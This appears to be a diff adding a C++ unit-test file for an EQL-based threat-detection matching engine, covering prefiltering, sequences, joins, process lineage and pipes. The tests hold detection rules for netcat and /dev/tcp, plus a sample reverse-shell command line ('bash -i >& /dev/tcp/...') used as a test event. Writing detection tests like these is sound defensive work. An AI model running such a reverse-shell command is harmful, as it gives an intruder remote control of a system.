@@ -1,0 +1,334 @@
+// Matching engine: prefilter, category index, lineage, sequences, joins, bounds, pipes.
+// Rules are real EQL (Elastic dialect, ECS fields) compiled by the EQL compiler.
+// The replaced global operator new/delete below pair malloc/free; GCC cannot see that.
+#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
+
+#include <gtest/gtest.h>
+
+#include <atomic>
+#include <cstdlib>
+#include <new>
+
+#include "eql/compile/compiler.h"
+#include "match/engine.h"
+#include "match/lineage.h"
+#include "match/prefilter.h"
+
+// Counts heap allocations so the single-event path can be checked to be allocation free.
+namespace {
+std::atomic<uint64_t> g_allocs{0};
+}
+void* operator new(std::size_t n) {
+  g_allocs.fetch_add(1, std::memory_order_relaxed);
+  if (void* p = std::malloc(n ? n : 1)) return p;
+  throw std::bad_alloc();
+}
+void operator delete(void* p) noexcept {
+  std::free(p);
+}
+void operator delete(void* p, std::size_t) noexcept {
+  std::free(p);
+}
+
+namespace wsn::match {
+namespace {
+
+constexpr int64_t kSec = 1'000'000'000;
+
+struct Hit {
+  uint32_t rule;
+  std::vector<std::string> names;  // process.name / file.path of each event
+};
+
+class Sink : public MatchSink {
+ public:
+  void on_match(uint32_t rule, std::span<const Event* const> events) override {
+    Hit h{rule, {}};
+    for (const Event* e : events) {
+      FieldView v;
+      h.names.emplace_back(e->get(fields::kProcessName, v) ? v.s : "?");
+    }
+    hits.push_back(std::move(h));
+  }
+  std::vector<Hit> hits;
+};
+
+class CountSink : public MatchSink {
+ public:
+  void on_match(uint32_t, std::span<const Event* const>) override { ++count; }
+  size_t count = 0;
+};
+
+class EngineTest : public ::testing::Test {
+ protected:
+  std::shared_ptr<const CompiledRules> compile(const std::vector<std::string>& queries,
+                                               eql::CompileOptions opt = {}) {
+    std::vector<SourceText> texts;
+    for (size_t k = 0; k < queries.size(); ++k)
+      texts.emplace_back("r" + std::to_string(k), queries[k]);
+    std::vector<eql::EqlRuleSource> src;
+    for (size_t k = 0; k < texts.size(); ++k) src.push_back({static_cast<uint32_t>(k), &texts[k]});
+    std::vector<Diagnostics> diags(queries.size());
+    auto rules = eql::compile_eql_rules(src, reg_, opt, diags);
+    for (size_t k = 0; k < diags.size(); ++k) {
+      EXPECT_FALSE(diags[k].has_errors()) << diags[k].render(texts[k]);
+    }
+    return rules;
+  }
+  Event proc(std::string_view name, int64_t t_sec = 0, std::string_view cmd = "",
+             std::string_view entity = "", std::string_view parent = "",
+             std::string_view type = "start") {
+    Event e;
+    e.set_category(categories::kProcess);
+    e.set_string(fields::kProcessName, name);
+    if (!cmd.empty()) e.set_string(fields::kProcessCommandLine, cmd);
+    if (!entity.empty()) e.set_string(fields::kProcessEntityId, entity);
+    if (!parent.empty()) e.set_string(fields::kProcessParentEntityId, parent);
+    const std::string_view types[] = {type};
+    e.set_string_list(fields::kEventType, types);
+    e.set_timestamp(fields::kTimestamp, t_sec * kSec);
+    return e;
+  }
+  Event file(std::string_view path, int64_t t_sec = 0, std::string_view entity = "") {
+    Event e;
+    e.set_category(categories::kFile);
+    e.set_string(fields::kFilePath, path);
+    e.set_string(fields::kProcessName, path);
+    if (!entity.empty()) e.set_string(fields::kProcessEntityId, entity);
+    e.set_timestamp(fields::kTimestamp, t_sec * kSec);
+    return e;
+  }
+  FieldRegistry reg_;
+};
+
+TEST_F(EngineTest, SingleEventRulesByCategoryAndAny) {
+  auto rules = compile({"process where process.name == \"nc\"", "any where process.name : \"NC\"",
+                        "file where file.path : \"/tmp/*\""});
+  auto m = rules->make_matcher();
+  Sink sink;
+  m->process(proc("nc"), sink);
+  m->process(file("/tmp/x"), sink);
+  m->process(proc("bash"), sink);
+  ASSERT_EQ(sink.hits.size(), 3u);
+  EXPECT_EQ(sink.hits[0].rule, 0u);
+  EXPECT_EQ(sink.hits[1].rule, 1u);
+  EXPECT_EQ(sink.hits[2].rule, 2u);
+}
+
+TEST_F(EngineTest, PrefilterSkipsRulesWhoseLiteralsAreAbsent) {
+  std::vector<std::string> qs;
+  for (int k = 0; k < 1000; ++k) {
+    qs.push_back("process where process.name == \"tool" + std::to_string(k) +
+                 "\" and process.pid > 0");
+  }
+  qs.push_back("process where process.command_line : \"*/dev/tcp/*\"");
+  auto rules = compile(qs);
+  auto m = rules->make_matcher();
+  Sink sink;
+  Event e = proc("tool517");
+  e.set_int(fields::kProcessPid, 3);
+  m->process(e, sink);
+  m->process(proc("bash", 0, "bash -i >& /dev/tcp/10.0.0.1/4444"), sink);
+  ASSERT_EQ(sink.hits.size(), 2u);
+  EXPECT_EQ(sink.hits[0].rule, 517u);
+  EXPECT_EQ(sink.hits[1].rule, 1000u);
+  // "tool517" also contains "tool5", "tool51": a handful of evaluations, not 1000 per event.
+  EXPECT_LE(m->stats().evaluations, 6u);
+  auto* info = dynamic_cast<const RuleMatcherInfo*>(m.get());
+  ASSERT_NE(info, nullptr);
+}
+
+TEST_F(EngineTest, SingleEventPathDoesNotAllocateOnceWarm) {
+  auto rules =
+      compile({"process where process.name in (\"nc\", \"ncat\") and "
+               "concat(process.name, \"-\", process.pid) == \"nc-4\"",
+               "process where process.command_line : \"*curl*\""});
+  auto m = rules->make_matcher();
+  CountSink sink;
+  Event e = proc("nc", 0, "curl http://x");
+  e.set_int(fields::kProcessPid, 4);
+  m->process(e, sink);  // warm up
+  const uint64_t before = g_allocs.load();
+  for (int k = 0; k < 100; ++k) m->process(e, sink);
+  EXPECT_EQ(g_allocs.load() - before, 0u);
+  EXPECT_EQ(sink.count, 202u);
+}
+
+TEST_F(EngineTest, RequirementExtraction) {
+  Program p;
+  StringMatcherSpec spec;
+  spec.kind = StrMatchKind::kExact;
+  spec.patterns = {"NC"};
+  const NodeRef a = p.str_match(p.field(fields::kProcessName, StaticType::kString),
+                                StringMatcher::create(spec, nullptr));
+  const NodeRef b = p.compare(CmpOp::kGt, CaseMode::kSensitive,
+                              p.field(fields::kProcessPid, StaticType::kInt), p.int_node(1));
+  const NodeRef both[] = {b, a};
+  auto r = extract_requirement(p, p.and_(both));
+  ASSERT_TRUE(r);
+  EXPECT_EQ(r->field, fields::kProcessName);
+  EXPECT_EQ(r->literals, std::vector<std::string>{"nc"});
+  EXPECT_FALSE(extract_requirement(p, p.not_(a)));
+  EXPECT_FALSE(extract_requirement(p, b));
+}
+
+TEST(AhoCorasick, FindsOverlappingPatternsIgnoringCase) {
+  AhoCorasick ac;
+  const uint32_t he = ac.add("he");
+  const uint32_t she = ac.add("she");
+  const uint32_t hers = ac.add("hers");
+  ac.build();
+  std::vector<uint32_t> found;
+  ac.scan("uSHERS", [&](uint32_t id) { found.push_back(id); });
+  EXPECT_EQ(found, (std::vector<uint32_t>{she, he, hers}));
+}
+
+TEST_F(EngineTest, SequenceByKeysDifferentFieldsPerStep) {
+  auto rules =
+      compile({"sequence [file where file.path : \"/tmp/*\"] by file.path "
+               "[process where true] by process.executable"});
+  auto m = rules->make_matcher();
+  Sink sink;
+  m->process(file("/tmp/a", 1), sink);
+  m->process(file("/tmp/b", 2), sink);
+  Event p = proc("b", 3);
+  p.set_string(fields::kProcessExecutable, "/tmp/b");
+  m->process(p, sink);
+  ASSERT_EQ(sink.hits.size(), 1u);
+  EXPECT_EQ(sink.hits[0].names, (std::vector<std::string>{"/tmp/b", "b"}));
+  EXPECT_EQ(m->stats().pending_sequences, 1u);  // /tmp/a still waits
+}
+
+TEST_F(EngineTest, SequenceMaxspanUntilAndRuns) {
+  auto rules = compile(
+      {"sequence by process.entity_id with maxspan=10s [process where process.name == \"a\"] "
+       "[process where process.name == \"b\"] with runs=2 until [process where "
+       "process.name == \"stop\"]"});
+  auto m = rules->make_matcher();
+  Sink sink;
+  m->process(proc("a", 0, "", "p1"), sink);
+  m->process(proc("b", 1, "", "p1"), sink);
+  m->process(proc("b", 2, "", "p1"), sink);  // completes: a b b
+  m->process(proc("a", 10, "", "p1"), sink);
+  m->process(proc("b", 30, "", "p1"), sink);  // 20 s after the start: expired first
+  m->process(proc("a", 40, "", "p2"), sink);
+  m->process(proc("stop", 41, "", "p2"), sink);
+  m->process(proc("b", 42, "", "p2"), sink);
+  m->process(proc("b", 43, "", "p2"), sink);
+  ASSERT_EQ(sink.hits.size(), 1u);
+  EXPECT_EQ(sink.hits[0].names, (std::vector<std::string>{"a", "b", "b"}));
+  EXPECT_EQ(m->stats().expired_sequences, 2u);
+}
+
+TEST_F(EngineTest, SequenceStateIsBoundedWithEviction) {
+  eql::CompileOptions opt;
+  opt.limits.max_pending_per_rule = 3;
+  auto rules = compile({"sequence by process.entity_id [process where process.name == \"a\"] "
+                        "[process where process.name == \"b\"]"},
+                       opt);
+  auto m = rules->make_matcher();
+  Sink sink;
+  for (int k = 0; k < 5; ++k) m->process(proc("a", k, "", "p" + std::to_string(k)), sink);
+  EXPECT_EQ(m->stats().pending_sequences, 3u);
+  EXPECT_EQ(m->stats().evicted_sequences, 2u);
+  m->process(proc("b", 9, "", "p0"), sink);  // evicted: oldest first
+  m->process(proc("b", 9, "", "p4"), sink);
+  ASSERT_EQ(sink.hits.size(), 1u);
+}
+
+TEST_F(EngineTest, MissingEvents) {
+  auto rules =
+      compile({"sequence by process.entity_id with maxspan=10s "
+               "[process where process.name == \"a\"] ![process where process.name == "
+               "\"x\"] [process where process.name == \"b\"]",
+               "sequence by process.entity_id with maxspan=10s "
+               "[process where process.name == \"c\"] ![process where process.name == "
+               "\"y\"]"});
+  auto m = rules->make_matcher();
+  Sink sink;
+  m->process(proc("a", 0, "", "p1"), sink);
+  m->process(proc("x", 1, "", "p1"), sink);
+  m->process(proc("b", 2, "", "p1"), sink);  // x in between: no match
+  m->process(proc("a", 3, "", "p2"), sink);
+  m->process(proc("b", 4, "", "p2"), sink);  // match
+  m->process(proc("c", 5, "", "p3"), sink);
+  m->process(proc("y", 6, "", "p3"), sink);  // kills p3
+  m->process(proc("c", 7, "", "p4"), sink);
+  ASSERT_EQ(sink.hits.size(), 1u);
+  m->process(proc("z", 30, "", "p9"), sink);  // maxspan passed: c(p4) completes
+  ASSERT_EQ(sink.hits.size(), 2u);
+  EXPECT_EQ(sink.hits[1].rule, 1u);
+  m->process(proc("c", 31, "", "p5"), sink);
+  m->finish(sink);  // end of stream completes the pending one
+  EXPECT_EQ(sink.hits.size(), 3u);
+}
+
+TEST_F(EngineTest, JoinFillsPositionsPerKey) {
+  eql::CompileOptions opt;
+  opt.dialect = eql::Dialect::kEndgame;
+  auto rules = compile({"join by process.entity_id [process where process.name == \"a\"] "
+                        "[file where true] until [process where process.name == \"end\"]"},
+                       opt);
+  auto m = rules->make_matcher();
+  Sink sink;
+  m->process(file("f1", 0, "p1"), sink);
+  m->process(proc("end", 1, "", "p1"), sink);
+  m->process(proc("a", 2, "", "p1"), sink);
+  m->process(file("f2", 3, "p1"), sink);
+  ASSERT_EQ(sink.hits.size(), 1u);
+  EXPECT_EQ(sink.hits[0].names, (std::vector<std::string>{"a", "f2"}));
+}
+
+TEST_F(EngineTest, DescendantOfFollowsEntityIds) {
+  auto rules =
+      compile({"process where process.name == \"sh\" and descendant of "
+               "[process where process.name == \"sshd\"]"});
+  auto m = rules->make_matcher();
+  Sink sink;
+  m->process(proc("sshd", 0, "", "e1", "e0"), sink);
+  m->process(proc("bash", 1, "", "e2", "e1"), sink);
+  m->process(proc("sh", 2, "", "e3", "e2"), sink);  // grandchild: match
+  m->process(proc("sh", 3, "", "e9", "e8"), sink);  // unrelated
+  m->process(proc("bash", 4, "", "e2", "e1", "end"), sink);
+  m->process(proc("sh", 5, "", "e4", "e2"), sink);  // parent ended: no match
+  ASSERT_EQ(sink.hits.size(), 1u);
+}
+
+TEST(Lineage, BoundedKeySetEvictsOldestAndCounts) {
+  BoundedKeySet s(2);
+  s.insert(1);
+  s.insert(2);
+  s.insert(3);
+  EXPECT_FALSE(s.contains(1));
+  EXPECT_TRUE(s.contains(2) && s.contains(3));
+  EXPECT_EQ(s.evictions(), 1u);
+}
+
+TEST_F(EngineTest, PipesOverResults) {
+  SourceText src("q", "process where true | unique process.name | head 2");
+  Diagnostics diags;
+  auto q = eql::compile_eql_query(src, reg_, {}, diags);
+  ASSERT_TRUE(q) << diags.render(src);
+  std::vector<PipeResult> in;
+  for (const char* n : {"a", "b", "a", "c"}) {
+    PipeResult r;
+    r.events.push_back(std::make_shared<const Event>(proc(n)));
+    in.push_back(std::move(r));
+  }
+  auto out = run_pipes(*q->pipes, std::move(in));
+  ASSERT_EQ(out.size(), 2u);
+  FieldView v;
+  ASSERT_TRUE(out[1].events[0]->get(fields::kProcessName, v));
+  EXPECT_EQ(v.s, "b");
+}
+
+TEST_F(EngineTest, RulesWithPipesAreRejected) {
+  SourceText t("r", "process where true | head 1");
+  eql::EqlRuleSource src{7, &t};
+  std::vector<Diagnostics> diags(1);
+  eql::compile_eql_rules(std::span(&src, 1), reg_, {}, diags);
+  EXPECT_NE(diags[0].render(t).find("[EQL2014]"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace wsn::match
